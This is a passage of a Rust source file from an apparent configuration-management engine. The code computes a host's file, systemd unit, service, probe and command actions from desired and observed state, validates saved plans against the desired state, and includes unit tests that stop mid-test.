//! Computing a host's actions from its desired and observed state.
//!
//! Pure: no I/O. Each resource yields at most one action, with the concrete
//! ops apply will run. Then, in this order: one `daemon-reload` after the
//! last unit change (all units come before all services), and one restart
//! per notified service at the end, after every file is in place. A service
//! that this run starts is not also restarted.

use std::collections::{BTreeSet, HashMap};

use crate::content::Resolved;
use crate::desired::{ResolvedResource, ResolvedState};
use crate::diff;
use crate::error::EngineError;
use crate::observe::{MAX_DIFF_BYTES, Observation, PathState};
use crate::plan::{Action, ActionKind, HostPlan, Op};
use crate::resource::{Attrs, Ensure, Guard, ResourceId, Spec};

/// The id of the host-wide daemon-reload action.
pub const DAEMON_RELOAD_ID: &str = "systemd:daemon-reload";

fn octal(m: u32) -> String {
    format!("{m:o}")
}

struct Cx<'a> {
    host: &'a str,
    obs: &'a Observation,
}

impl Cx<'_> {
    fn path(&self, p: &str) -> Result<&PathState, EngineError> {
        self.obs.paths.get(p).ok_or_else(|| EngineError::Observe {
            host: self.host.to_string(),
            reason: format!("the host did not report {p}"),
        })
    }

    fn conflict(&self, id: &ResourceId, reason: String) -> EngineError {
        EngineError::Conflict {
            host: self.host.to_string(),
            resource: id.to_string(),
            reason,
        }
    }
}

/// Plan one host's resources (of one step) against its observation.
pub fn plan_host(state: &ResolvedState, obs: &Observation) -> Result<HostPlan, EngineError> {
    let cx = Cx {
        host: &state.host,
        obs,
    };
    let mut actions: Vec<Action> = Vec::new();
    let mut unchanged = 0;
    for r in &state.resources {
        if matches!(r.resource.spec, Spec::Probe { .. }) {
            continue; // decided at the end, once every other action is known
        }
        match plan_resource(&cx, r)? {
            Some(a) => actions.push(a),
            None => unchanged += 1,
        }
    }

    // One daemon-reload, after the last unit change, if a unit changed or systemd asks for it.
    let changed_units: Vec<&ResolvedResource> = state
        .resources
        .iter()
        .filter(|r| {
            matches!(r.resource.spec, Spec::Unit { .. })
                && actions.iter().any(|a| a.resource == r.id)
        })
        .collect();
    let stale_units: Vec<String> = state
        .resources
        .iter()
        .filter_map(|r| match &r.resource.spec {
            Spec::Unit { name, .. } | Spec::Service { unit: name, .. } => Some(name.clone()),
            _ => None,
        })
        .filter(|u| obs.units.get(u).is_some_and(|s| s.need_daemon_reload))
        .collect::<BTreeSet<_>>()
        .into_iter()
        .collect();
    // A unit file systemd has never loaded (observed `not-found`) needs no
    // daemon-reload: systemd >= 245 notices new files in its unit directories
    // and loads the unit on first use. A reload costs a tenth of a CPU second
    // per host (every generator runs again), the largest part of a first apply
    // after the uploads. Only changes to units systemd has loaded, removals,
    // and units systemd itself reports stale need the reload.
    let only_new_units = stale_units.is_empty()
        && !changed_units.is_empty()
        && changed_units.iter().all(|r| {
            let Spec::Unit {
                name,
                ensure: Ensure::Present,
                ..
            } = &r.resource.spec
            else {
                return false;
            };
            let loaded = obs
                .units
                .get(name)
                .is_some_and(|s| !(s.load_state.is_empty() || s.load_state == "not-found"));
            !loaded
                && actions
                    .iter()
                    .any(|a| a.resource == r.id && a.kind == ActionKind::Create)
        });
    let mut written_units: Vec<String> = Vec::new();
    if only_new_units {
        for u in &changed_units {
            let Spec::Unit { name, .. } = &u.resource.spec else {
                continue;
            };
            if let Some(a) = actions.iter_mut().find(|a| a.resource == u.id) {
                a.ops.push(Op::LoadUnit { unit: name.clone() });
            }
            written_units.push(name.clone());
        }
    } else if !changed_units.is_empty() || !stale_units.is_empty() {
        let reason = if !changed_units.is_empty() {
            let names: Vec<String> = changed_units.iter().map(|r| r.id.to_string()).collect();
            format!("{} changed", names.join(", "))
        } else {
            format!(
                "systemd reports unit files changed on disk since its last reload: {}",
                stale_units.join(", ")
            )
        };
        let keys: Vec<String> = stale_units.iter().map(|u| format!("S:{u}")).collect();
        // After the last unit installed or changed (services that use them
        // come after); only removals: after the last removal.
        let removed = |u: &&ResolvedResource| {
            matches!(
                u.resource.spec,
                Spec::Unit {
                    ensure: Ensure::Absent,
                    ..
                }
            )
        };
        let last_of = |actions: &[Action], want_removed: Option<bool>| {
            actions.iter().rposition(|a| {
                changed_units
                    .iter()
                    .filter(|u| want_removed.is_none_or(|w| removed(u) == w))
                    .any(|u| u.id == a.resource)
            })
        };
        let at = last_of(&actions, Some(false))
            .or_else(|| last_of(&actions, None))
            .map(|i| i + 1)
            .or_else(|| {
                actions
                    .iter()
                    .position(|a| a.resource.as_str().starts_with("service:"))
            })
            .unwrap_or(actions.len());
        actions.insert(
            at,
            Action {
                resource: ResourceId(DAEMON_RELOAD_ID.into()),
                kind: ActionKind::Reload,
                reason,
                diff: None,
                sensitive: false,
                observed: obs.resource_fingerprint(&keys),
                ops: vec![Op::DaemonReload {}],
                decided_after: None,
            },
        );
        // A unit file removed after that reload (its service was stopped
        // first) needs one more, so that systemd forgets it in this run.
        if let Some(last) = last_of(&actions, Some(true))
            && last > at
        {
            actions.insert(
                last + 1,
                Action {
                    resource: ResourceId(DAEMON_RELOAD_ID.into()),
                    kind: ActionKind::Reload,
                    reason: "unit files removed".into(),
                    diff: None,
                    sensitive: false,
                    observed: obs.resource_fingerprint(&[]),
                    ops: vec![Op::DaemonReload {}],
                    decided_after: None,
                },
            );
        }
    }

    // `systemctl enable` reloads systemd by itself, which costs as much as the
    // daemon-reload (most of a second on a busy host). After this run's
    // daemon-reload, enable without it: systemd sees the new wants-symlink
    // at its next reload or boot, and the unit is started explicitly anyway.
    // The same holds for a new unit systemd loads by itself: its wants-symlink
    // needs no reload either.
    if let Some(reload_at) = actions.iter().position(|a| a.kind == ActionKind::Reload) {
        for a in &mut actions[reload_at + 1..] {
            for op in &mut a.ops {
                if let Op::Systemctl {
                    verb, no_reload, ..
                } = op
                    && (verb == "enable" || verb == "disable")
                {
                    *no_reload = true;
                }
            }
        }
    }
    for a in &mut actions {
        for op in &mut a.ops {
            if let Op::Systemctl {
                verb,
                unit,
                no_reload,
            } = op
                && (verb == "enable" || verb == "disable")
                && written_units.contains(unit)
            {
                *no_reload = true;
            }
        }
    }

    // Restarts: once per notified service, at the end.
    let mut restarts = Vec::new();
    for r in &state.resources {
        let Spec::Service { unit, running, .. } = &r.resource.spec else {
            continue;
        };
        if *running == Some(false) {
            continue;
        }
        let mut by: Vec<String> = state
            .resources
            .iter()
            .filter(|n| {
                let notifies = n.resource.notify.contains(&r.id)
                    || matches!(&n.resource.spec, Spec::Unit { name, .. } if name == unit);
                notifies
                    && actions
                        .iter()
                        .any(|a| a.resource == n.id && a.kind != ActionKind::Run)
            })
            .map(|n| n.id.to_string())
            .collect();
        // A command that ran also notifies.
        by.extend(
            state
                .resources
                .iter()
                .filter(|n| {
                    matches!(n.resource.spec, Spec::Command { .. })
                        && n.resource.notify.contains(&r.id)
                })
                .filter(|n| actions.iter().any(|a| a.resource == n.id))
                .map(|n| n.id.to_string()),
        );
        if by.is_empty() {
            continue;
        }
        let observed = obs.units.get(unit).cloned().unwrap_or_default();
        let started_now = actions.iter().any(|a| {
            a.resource == r.id
                && a.ops
                    .iter()
                    .any(|o| matches!(o, Op::Systemctl { verb, .. } if verb == "start"))
        });
        if started_now || !observed.is_running() {
            continue;
        }
        by.sort();
        by.dedup();
        restarts.push(Action {
            resource: r.id.clone(),
            kind: ActionKind::Restart,
            reason: format!("notified by {}", by.join(", ")),
            diff: None,
            sensitive: false,
            observed: obs.resource_fingerprint(&[format!("S:{unit}")]),
            ops: vec![Op::Systemctl {
                verb: "restart".into(),
                unit: unit.clone(),
                no_reload: false,
            }],
            decided_after: None,
        });
    }
    actions.extend(restarts);
    unchanged += plan_probes(state, obs, &mut actions);
    Ok(HostPlan {
        host: state.host.clone(),
        fingerprint: obs.fingerprint.clone(),
        locked_by: obs.lock.as_ref().map(|l| l.holder.to_string()),
        unchanged,
        actions,
        decided_after: None,
    })
}

/// Probes (see `probe.rs`): one `wait` action for each probe a changed
/// resource triggers (one it depends on; without dependencies, any declared
/// before it), or whose last check failed on this host. It goes after the
/// last action of what it depends on or follows (a notified restart at the
/// end included), so it gates what comes after it. Returns how many probes
/// are not planned (unchanged).
fn plan_probes(state: &ResolvedState, obs: &Observation, actions: &mut Vec<Action>) -> usize {
    let mut unchanged = 0;
    for (k, r) in state.resources.iter().enumerate() {
        let Spec::Probe {
            name,
            check,
            timeout,
            interval,
        } = &r.resource.spec
        else {
            continue;
        };
        let before: Vec<&ResourceId> = state.resources[..k].iter().map(|p| &p.id).collect();
        let deps: Vec<&ResourceId> = if r.resource.depends_on.is_empty() {
            before.clone()
        } else {
            r.resource.depends_on.iter().collect()
        };
        let mut changed: Vec<String> = actions
            .iter()
            .filter(|a| deps.contains(&&a.resource) && a.kind != ActionKind::Wait)
            .map(|a| a.resource.to_string())
            .collect();
        changed.dedup();
        let failed = obs.failed_probes.contains(name);
        if changed.is_empty() && !failed {
            unchanged += 1;
            continue;
        }
        let at = actions
            .iter()
            .rposition(|a| deps.contains(&&a.resource) || before.contains(&&a.resource))
            .map(|i| i + 1)
            .unwrap_or(0);
        let reason = if changed.is_empty() {
            "its last check failed on this host".to_string()
        } else {
            format!("{} after {} changed", check.describe(), changed.join(", "))
        };
        actions.insert(
            at,
            Action {
                resource: r.id.clone(),
                kind: ActionKind::Wait,
                reason,
                diff: None,
                sensitive: false,
                observed: obs.resource_fingerprint(&[format!("Q:{name}")]),
                ops: vec![Op::Probe {
                    name: name.clone(),
                    check: check.clone(),
                    timeout_ms: timeout.as_millis() as u64,
                    interval_ms: interval.as_millis() as u64,
                }],
                decided_after: None,
            },
        );
    }
    unchanged
}

fn action(
    id: &ResourceId,
    kind: ActionKind,
    reason: impl Into<String>,
    observed: String,
    ops: Vec<Op>,
) -> Option<Action> {
    Some(Action {
        resource: id.clone(),
        kind,
        reason: reason.into(),
        diff: None,
        sensitive: false,
        observed,
        ops,
        decided_after: None,
    })
}

/// chmod/chown ops and their reasons for an existing path.
fn attr_changes(
    path: &str,
    want: &Attrs,
    mode: u32,
    owner: &str,
    group: &str,
) -> (Vec<Op>, Vec<String>) {
    let mut ops = Vec::new();
    let mut why = Vec::new();
    if let Some(m) = want.mode
        && m != mode
    {
        ops.push(Op::Chmod {
            path: path.into(),
            mode: octal(m),
        });
        why.push(format!("mode {} → {}", octal(mode), octal(m)));
    }
    let o = want.owner.as_deref().filter(|o| *o != owner);
    let g = want.group.as_deref().filter(|g| *g != group);
    if o.is_some() || g.is_some() {
        ops.push(Op::Chown {
            path: path.into(),
            owner: o.map(str::to_string),
            group: g.map(str::to_string),
        });
        if let Some(o) = o {
            why.push(format!("owner {owner} → {o}"));
        }
        if let Some(g) = g {
            why.push(format!("group {group} → {g}"));
        }
    }
    (ops, why)
}

fn plan_resource(cx: &Cx<'_>, r: &ResolvedResource) -> Result<Option<Action>, EngineError> {
    let id = &r.id;
    let path_key = r.resource.path().map(|p| format!("P:{p}"));
    let observed = |extra: &[String]| {
        let mut keys: Vec<String> = path_key.iter().cloned().collect();
        keys.extend_from_slice(extra);
        cx.obs.resource_fingerprint(&keys)
    };
    match &r.resource.spec {
        Spec::Directory {
            path,
            attrs,
            ensure,
        } => {
            let fp = observed(&[]);
            Ok(match (ensure, cx.path(path)?) {
                (Ensure::Present, PathState::Absent) => action(
                    id,
                    ActionKind::Create,
                    "directory does not exist",
                    fp,
                    vec![Op::Mkdir {
                        path: path.clone(),
                        mode: octal(attrs.mode.unwrap_or(0o755)),
                        owner: attrs.owner.clone(),
                        group: attrs.group.clone(),
                    }],
                ),
                (Ensure::Present, PathState::Dir { mode, owner, group }) => {
                    let (ops, why) = attr_changes(path, attrs, *mode, owner, group);
                    if ops.is_empty() {
                        None
                    } else {
                        action(id, ActionKind::Update, why.join("; "), fp, ops)
                    }
                }
                (Ensure::Present, other) => {
                    return Err(cx.conflict(
                        id,
                        format!(
                            "{} is in the way; remove it or change the resource",
                            describe(other)
                        ),
                    ));
                }
                (Ensure::Absent, PathState::Absent) => None,
                (Ensure::Absent, PathState::Other) => {
                    return Err(cx.conflict(
                        id,
                        "a special file (socket, device, fifo) is there; not removed".into(),
                    ));
                }
                (Ensure::Absent, st) => action(
                    id,
                    ActionKind::Delete,
                    format!("{} exists", describe(st)),
                    fp,
                    vec![Op::Remove {
                        path: path.clone(),
                        recursive: matches!(st, PathState::Dir { .. }),
                    }],
                ),
            })
        }
        Spec::File {
            path,
            attrs,
            ensure,
            ..
        } => plan_content(cx, r, path, attrs, *ensure, observed(&[])),
        Spec::Binary {
            path,
            attrs,
            ensure,
            ..
        } => plan_content(cx, r, path, attrs, *ensure, observed(&[])),
        Spec::Unit { name, ensure, .. } => {
            let path = r.resource.path().expect("units have a path");
            let attrs = Attrs {
                owner: None,
                group: None,
                mode: Some(0o644),
            };
            plan_content(
                cx,
                r,
                &path,
                &attrs,
                *ensure,
                observed(&[format!("S:{name}")]),
            )
        }
        Spec::Symlink {
            path,
            target,
            ensure,
        } => {
            let fp = observed(&[]);
            let link = vec![Op::Symlink {
                path: path.clone(),
                target: target.clone(),
            }];
            Ok(match (ensure, cx.path(path)?) {
                (Ensure::Present, PathState::Absent) => action(
                    id,
                    ActionKind::Create,
                    format!("link to {target} does not exist"),
                    fp,
                    link,
                ),
                (Ensure::Present, PathState::Link { target: t }) if t == target => None,
                (Ensure::Present, PathState::Link { target: t }) => action(
                    id,
                    ActionKind::Update,
                    format!("points to {t}, wanted {target}"),
                    fp,
                    link,
                ),
                (Ensure::Present, PathState::File { .. }) => action(
                    id,
                    ActionKind::Update,
                    format!("a regular file is there; it is replaced by a link to {target}"),
                    fp,
                    link,
                ),
                (Ensure::Present, other) => {
                    return Err(cx.conflict(
                        id,
                        format!(
                            "{} is in the way; remove it or change the resource",
                            describe(other)
                        ),
                    ));
                }
                (Ensure::Absent, PathState::Link { target: t }) => action(
                    id,
                    ActionKind::Delete,
                    format!("link to {t} exists"),
                    fp,
                    vec![Op::Remove {
                        path: path.clone(),
                        recursive: false,
                    }],
                ),
                (Ensure::Absent, _) => None,
            })
        }
        Spec::Service {
            unit,
            enabled,
            running,
        } => {
            let st = cx.obs.units.get(unit).cloned().unwrap_or_default();
            if st.load_state == "masked" || st.unit_file_state == "masked" {
                return Err(cx.conflict(
                    id,
                    format!("the unit is masked; unmask it with `systemctl unmask {unit}`"),
                ));
            }
            let mut ops = Vec::new();
            let mut why = Vec::new();
            let shown = |s: &str| {
                if s.is_empty() {
                    "not installed".to_string()
                } else {
                    s.to_string()
                }
            };
            match enabled {
                Some(true) if !st.is_enabled() => {
                    ops.push(Op::Systemctl {
                        verb: "enable".into(),
                        unit: unit.clone(),
                        no_reload: false,
                    });
                    why.push(format!("enable ({} → enabled)", shown(&st.unit_file_state)));
                }
                Some(false)
                    if matches!(st.unit_file_state.as_str(), "enabled" | "enabled-runtime") =>
                {
                    ops.push(Op::Systemctl {
                        verb: "disable".into(),
                        unit: unit.clone(),
                        no_reload: false,
                    });
                    why.push(format!("disable ({} → disabled)", st.unit_file_state));
                }
                _ => {}
            }
            match running {
                Some(true) if !st.is_running() => {
                    ops.push(Op::Systemctl {
                        verb: "start".into(),
                        unit: unit.clone(),
                        no_reload: false,
                    });
                    let now = if st.crash_looping() {
                        format!(
                            "crash loop: {}/{}, last result {}",
                            st.active_state, st.sub_state, st.result
                        )
                    } else {
                        shown(&st.active_state).to_string()
                    };
                    why.push(format!("start ({now} → active)"));
                }
                Some(false) if st.is_running() => {
                    ops.push(Op::Systemctl {
                        verb: "stop".into(),
                        unit: unit.clone(),
                        no_reload: false,
                    });
                    why.push(format!("stop ({} → inactive)", st.active_state));
                }
                _ => {}
            }
            if ops.is_empty() {
                return Ok(None);
            }
            let kind = if st.load_state == "not-found" || st.load_state.is_empty() {
                ActionKind::Create
            } else {
                ActionKind::Update
            };
            Ok(action(
                id,
                kind,
                why.join("; "),
                cx.obs.resource_fingerprint(&[format!("S:{unit}")]),
                ops,
            ))
        }
        // Probes are planned by `plan_probes`, once the other actions are known.
        Spec::Probe { .. } => Ok(None),
        Spec::Command {
            name,
            command,
            guard,
        } => {
            let g = cx
                .obs
                .guards
                .get(name)
                .ok_or_else(|| EngineError::Observe {
                    host: cx.host.to_string(),
                    reason: format!("the host did not report the guard of command {name}"),
                })?;
            if !g.should_run {
                return Ok(None);
            }
            let reason = match guard {
                Guard::Creates(p) => format!("{p} does not exist"),
                Guard::Unless(c) => format!("check `{c}` failed (exit {})", g.check_exit),
            };
            Ok(action(
                id,
                ActionKind::Run,
                reason,
                cx.obs.resource_fingerprint(&[format!("G:{name}")]),
                vec![Op::Run {
                    command: command.clone(),
                }],
            ))
        }
    }
}

/// Files, units and binaries: content, then attributes.
fn plan_content(
    cx: &Cx<'_>,
    r: &ResolvedResource,
    path: &str,
    attrs: &Attrs,
    ensure: Ensure,
    fp: String,
) -> Result<Option<Action>, EngineError> {
    let id = &r.id;
    let state = cx.path(path)?;
    if ensure == Ensure::Absent {
        return Ok(match state {
            PathState::Absent => None,
            PathState::File { .. } | PathState::Link { .. } => action(
                id,
                ActionKind::Delete,
                format!("{} exists", describe(state)),
                fp,
                vec![Op::Remove {
                    path: path.into(),
                    recursive: false,
                }],
            ),
            other => {
                return Err(cx.conflict(id, format!("{} is there; not removed", describe(other))));
            }
        });
    }
    let body: &Resolved = r
        .body
        .as_ref()
        .expect("present content resources are resolved");
    let diffable = r.diffable();
    let sensitive = matches!(r.resource.spec, Spec::File { .. } | Spec::Unit { .. })
        && !diffable
        && body.text().is_some();
    let write = |mode: u32, owner: Option<String>, group: Option<String>| Op::Write {
        path: path.into(),
        sha256: body.sha256.clone(),
        size: body.size(),
        mode: octal(mode),
        owner,
        group,
    };
    let (kind, mut reason, op, old): (ActionKind, String, Op, Option<&[u8]>) = match state {
        PathState::Absent => (
            ActionKind::Create,
            "does not exist".into(),
            write(
                attrs.mode.unwrap_or(0o644),
                attrs.owner.clone(),
                attrs.group.clone(),
            ),
            Some(&[]),
        ),
        PathState::File {
            mode,
            owner,
            group,
            size,
            sha256,
        } => {
            if *sha256 == body.sha256 {
                let (ops, why) = attr_changes(path, attrs, *mode, owner, group);
                if ops.is_empty() {
                    return Ok(None);
                }
                return Ok(action(id, ActionKind::Update, why.join("; "), fp, ops));
            }
            let (_, why) = attr_changes(path, attrs, *mode, owner, group);
            let mut reason = match &r.resource.spec {
                Spec::Binary { .. } => format!("content changed ({size} → {} bytes)", body.size()),
                _ => "content changed".to_string(),
            };
            for w in why {
                reason.push_str("; ");
                reason.push_str(&w);
            }
            // Keep what is not specified as it is on the host.
            let op = write(
                attrs.mode.unwrap_or(*mode),
                Some(attrs.owner.clone().unwrap_or_else(|| owner.clone())),
                Some(attrs.group.clone().unwrap_or_else(|| group.clone())),
            );
            (
                ActionKind::Update,
                reason,
                op,
                cx.obs.contents.get(path).map(Vec::as_slice),
            )
        }
        PathState::Link { target } => (
            ActionKind::Update,
            format!("a symlink to {target} is there; it is replaced by the file"),
            write(
                attrs.mode.unwrap_or(0o644),
                attrs.owner.clone(),
                attrs.group.clone(),
            ),
            None,
        ),
        other => {
            return Err(cx.conflict(
                id,
                format!(
                    "{} is in the way; remove it or change the resource",
                    describe(other)
                ),
            ));
        }
    };
    let mut a = Action {
        resource: id.clone(),
        kind,
        reason: String::new(),
        diff: None,
        sensitive,
        observed: fp,
        ops: vec![op],
        decided_after: None,
    };
    if diffable {
        match (old, body.text()) {
            (Some(old), Some(new)) => {
                a.diff = match &r.resource.spec {
                    Spec::File {
                        view: Some(view), ..
                    } => diff::unified(path, view(old).as_bytes(), view(new.as_bytes()).as_bytes()),
                    _ => diff::unified(path, old, new.as_bytes()),
                };
                if a.diff.is_none() {
                    reason.push_str(" (the host's content is not text; no diff)");
                }
            }
            (None, _)
                if kind == ActionKind::Update
                    && matches!(state, PathState::File { size, .. } if *size > MAX_DIFF_BYTES) =>
            {
                reason.push_str(&format!(
                    " (over {} KiB on the host; no diff)",
                    MAX_DIFF_BYTES / 1024
                ));
            }
            _ => {}
        }
    }
    a.reason = reason;
    Ok(Some(a))
}

fn describe(st: &PathState) -> String {
    match st {
        PathState::Absent => "nothing".into(),
        PathState::File { .. } => "a regular file".into(),
        PathState::Dir { .. } => "a directory".into(),
        PathState::Link { target } => format!("a symlink to {target}"),
        PathState::Other => "a special file (socket, device or fifo)".into(),
    }
}

/// Check a saved plan's host against the freshly resolved desired state: every
/// action's resource must still be wanted, with the same content, and every op
/// must be one the planner could have made for it (its path, unit, command,
/// link target; a known systemctl verb; a valid mode and owner). A plan file is
/// input: this keeps a stale or edited one from doing anything the desired
/// state does not allow.
pub(crate) fn check_against(plan: &HostPlan, states: &[&ResolvedState]) -> Result<(), EngineError> {
    let by_id: HashMap<&ResourceId, &ResolvedResource> = states
        .iter()
        .flat_map(|s| s.resources.iter())
        .map(|r| (&r.id, r))
        .collect();
    let mismatch = |reason: String| EngineError::PlanMismatch {
        host: plan.host.clone(),
        reason,
    };
    for a in &plan.actions {
        if a.resource.as_str() == DAEMON_RELOAD_ID {
            if a.ops != [Op::DaemonReload {}] {
                return Err(mismatch(format!(
                    "{DAEMON_RELOAD_ID} may only reload systemd"
                )));
            }
            continue;
        }
        let Some(r) = by_id.get(&a.resource) else {
            return Err(mismatch(format!(
                "{} is no longer in the desired state",
                a.resource
            )));
        };
        for op in &a.ops {
            check_op(r, op).map_err(|why| mismatch(format!("{}: {why}", a.resource)))?;
        }
    }
    Ok(())
}

fn valid_mode(m: &str) -> bool {
    !m.is_empty() && m.len() <= 4 && m.bytes().all(|b| (b'0'..=b'7').contains(&b))
}

fn valid_names(owner: &Option<String>, group: &Option<String>) -> bool {
    [owner, group].into_iter().flatten().all(|n| {
        !n.is_empty()
            && n.len() <= 64
            && n.bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b))
    })
}

fn check_op(r: &ResolvedResource, op: &Op) -> Result<(), String> {
    let path = r.resource.path();
    let same_path = |p: &str| path.as_deref() == Some(p);
    let ok = match (op, &r.resource.spec) {
        (
            Op::Mkdir {
                path: p,
                mode,
                owner,
                group,
            },
            Spec::Directory { .. },
        ) => same_path(p) && valid_mode(mode) && valid_names(owner, group),
        (
            Op::Write {
                path: p,
                sha256,
                mode,
                owner,
                group,
                ..
            },
            Spec::File { .. } | Spec::Binary { .. } | Spec::Unit { .. },
        ) => {
            if r.body.as_ref().map(|b| &b.sha256) != Some(sha256) {
                return Err("its content changed since the plan was made".into());
            }
            same_path(p) && valid_mode(mode) && valid_names(owner, group)
        }
        (Op::Chmod { path: p, mode }, _) => same_path(p) && valid_mode(mode),
        (
            Op::Chown {
                path: p,
                owner,
                group,
            },
            _,
        ) => same_path(p) && valid_names(owner, group),
        (Op::Symlink { path: p, target: t }, Spec::Symlink { target, .. }) => {
            same_path(p) && t == target
        }
        (Op::Remove { path: p, .. }, spec) => {
            let absent = matches!(
                spec,
                Spec::Directory {
                    ensure: Ensure::Absent,
                    ..
                } | Spec::File {
                    ensure: Ensure::Absent,
                    ..
                } | Spec::Binary {
                    ensure: Ensure::Absent,
                    ..
                } | Spec::Symlink {
                    ensure: Ensure::Absent,
                    ..
                } | Spec::Unit {
                    ensure: Ensure::Absent,
                    ..
                }
            );
            same_path(p) && absent
        }
        (
            Op::LoadUnit { unit: u },
            Spec::Unit {
                name,
                ensure: Ensure::Present,
                ..
            },
        ) => u == name,
        (Op::Systemctl { verb, unit: u, .. }, Spec::Service { unit, .. }) => {
            u == unit && ["enable", "disable", "start", "stop", "restart"].contains(&verb.as_str())
        }
        (Op::Run { command: c }, Spec::Command { command, .. }) => c == command,
        (
            Op::Probe {
                name: n,
                check: c,
                timeout_ms,
                interval_ms,
            },
            Spec::Probe {
                name,
                check,
                timeout,
                interval,
            },
        ) => {
            n == name
                && c == check
                && *timeout_ms == timeout.as_millis() as u64
                && *interval_ms == interval.as_millis() as u64
        }
        _ => false,
    };
    if ok {
        Ok(())
    } else {
        Err(format!(
            "the plan's op {op:?} is not one the desired state allows"
        ))
    }
}

#[cfg(test)]
mod tests {
    use base64::Engine as _;

    use super::*;
    use crate::content::Content;
    use crate::desired::DesiredState;
    use crate::observe::parse;
    use crate::plan::Plan;
    use crate::print::{PrintOptions, render};
    use crate::resource::Resource;

    const UNIT: &str = "[Service]\nExecStart=/bin/sleep infinity\n";

    fn desired(conf: &str) -> DesiredState {
        DesiredState::new("cp-1")
            .with(Resource::directory("/etc/demo"))
            .with(
                Resource::file("/etc/demo/demo.conf", Content::text(conf))
                    .notify("service:demo.service"),
            )
            .with(Resource::file("/etc/demo/secret", Content::text("token=hunter2\n")).mode(0o600))
            .with(Resource::unit("demo.service", Content::text(UNIT)))
            .with(Resource::service("demo.service"))
    }

    fn sha(s: &str) -> String {
        crate::content::sha256_hex(s.as_bytes())
    }

    fn unit_block(load: &str, active: &str, file: &str) -> String {
        format!(
            "S\tLoadState={load}\nS\tActiveState={active}\nS\tUnitFileState={file}\nS\tNeedDaemonReload=no\nS\t\n"
        )
    }

    async fn plan_of(d: &DesiredState, observed: &str) -> Result<HostPlan, EngineError> {
        let st = d.resolve().await.unwrap();
        let obs = parse("cp-1", observed.as_bytes(), &[&st]).unwrap();
        plan_host(&st, &obs)
    }

    fn ops_of(p: &HostPlan) -> Vec<(String, ActionKind)> {
        p.actions
            .iter()
            .map(|a| (a.resource.to_string(), a.kind))
            .collect()
    }

    #[tokio::test]
    async fn a_fresh_host_gets_everything_created_in_order() {
        let observed = format!(
            "L\t-\nV\t1\nP\t/etc/demo\tabsent\nP\t/etc/demo/demo.conf\tabsent\nP\t/etc/demo/secret\tabsent\n\
             P\t/etc/systemd/system/demo.service\tabsent\n{}",
            unit_block("not-found", "inactive", "")
        );
        let p = plan_of(&desired("port=80\n"), &observed).await.unwrap();
        assert_eq!(
            ops_of(&p),
            vec![
                ("dir:/etc/demo".into(), ActionKind::Create),
                ("file:/etc/demo/demo.conf".into(), ActionKind::Create),
                ("file:/etc/demo/secret".into(), ActionKind::Create),
                ("unit:demo.service".into(), ActionKind::Create),
                ("service:demo.service".into(), ActionKind::Create),
            ]
        );
        // A unit systemd never loaded needs no daemon-reload: systemd loads it
        // on first use (with a reload only where it does not).
        assert_eq!(
            p.actions[3].ops.last(),
            Some(&Op::LoadUnit {
                unit: "demo.service".into()
            })
        );
        // The service is started by this run, so the changed config does not also restart it.
        assert!(p.actions.iter().all(|a| a.kind != ActionKind::Restart));
        assert!(p.actions[1].diff.as_deref().unwrap().contains("+port=80"));
        let secret = &p.actions[2];
        assert!(secret.sensitive && secret.diff.is_none());
        assert_eq!(
            secret.ops,
            vec![Op::Write {
                path: "/etc/demo/secret".into(),
                sha256: sha("token=hunter2\n"),
                size: 14,
                mode: "600".into(),
                owner: None,
                group: None
            }]
        );
        let svc = p.actions.last().unwrap();
        assert_eq!(
            svc.ops,
            vec![
                // A unit this run wrote is enabled without a reload.
                Op::Systemctl {
                    verb: "enable".into(),
                    unit: "demo.service".into(),
                    no_reload: true
                },
                Op::Systemctl {
                    verb: "start".into(),
                    unit: "demo.service".into(),
                    no_reload: false
                }
            ]
        );
        let text = render(
            &Plan::new(vec![crate::plan::StepPlan {
                name: "s".into(),
                hosts: vec![p],
            }]),
            &PrintOptions::default(),
        );
        assert!(
            !text.contains("hunter2"),
            "secrets are never printed:\n{text}"
        );
        assert!(text.contains("(sensitive content hidden)"), "{text}");
        assert!(
            text.ends_with("Plan: 5 to create, 0 to update, 0 to delete, 0 restarts.\n"),
            "{text}"
        );
    }

    #[tokio::test]
    async fn a_changed_config_is_diffed_and_restarts_the_running_service_once_at_the_end() {
        let old = "port=80\nlog=info\n";
        let observed = format!(
            "L\t-\nV\t1\nP\t/etc/demo\tdir\t755\troot\troot\n\
             P\t/etc/demo/demo.conf\tfile\t640\tdemo\tadm\t17\t{}\nB\t/etc/demo/demo.conf\t{}\n\
             P\t/etc/demo/secret\tfile\t600\troot\troot\t14\t{}\n\
             P\t/etc/systemd/system/demo.service\tfile\t644\troot\troot\t{}\t{}\n{}",
            sha(old),
            base64::engine::general_purpose::STANDARD.encode(old),
            sha("token=hunter2\n"),
            UNIT.len(),
            sha(UNIT),
            unit_block("loaded", "active", "enabled")
        );
        let p = plan_of(&desired("port=8080\nlog=info\n"), &observed)
            .await
            .unwrap();
        assert_eq!(
            ops_of(&p),
            vec![
                ("file:/etc/demo/demo.conf".into(), ActionKind::Update),
                ("service:demo.service".into(), ActionKind::Restart),
            ]
        );
        assert_eq!(p.unchanged, 4);
        let a = &p.actions[0];
        assert_eq!(a.reason, "content changed");
        assert!(
            a.diff
                .as_deref()
                .unwrap()
                .contains("-port=80\n+port=8080\n log=info\n"),
            "{:?}",
            a.diff
        );
        // Mode and owner the resource does not set are kept as they are on the host.
        assert!(matches!(&a.ops[0], Op::Write { mode, owner, group, .. }
            if mode == "640" && owner.as_deref() == Some("demo") && group.as_deref() == Some("adm")));
        assert_eq!(p.actions[1].reason, "notified by file:/etc/demo/demo.conf");
    }

    #[tokio::test]
    async fn a_changed_loaded_unit_is_followed_by_one_daemon_reload() {
        let observed = format!(
            "L\t-\nV\t1\nP\t/etc/demo\tdir\t755\troot\troot\n\
             P\t/etc/demo/demo.conf\tfile\t640\tdemo\tadm\t8\t{}\n\
             P\t/etc/demo/secret\tfile\t600\troot\troot\t14\t{}\n\
             P\t/etc/systemd/system/demo.service\tfile\t644\troot\troot\t4\t{}\n{}",
            sha("port=80\n"),
            sha("token=hunter2\n"),
            sha("old\n"),
            unit_block("loaded", "active", "enabled")
        );
        let p = plan_of(&desired("port=80\n"), &observed).await.unwrap();
        assert_eq!(
            ops_of(&p),
            vec![
                ("unit:demo.service".into(), ActionKind::Update),
                (DAEMON_RELOAD_ID.into(), ActionKind::Reload),
                ("service:demo.service".into(), ActionKind::Restart),
            ]
        );
        assert!(
            !p.actions[0]
                .ops
                .iter()
                .any(|o| matches!(o, Op::LoadUnit { .. }))
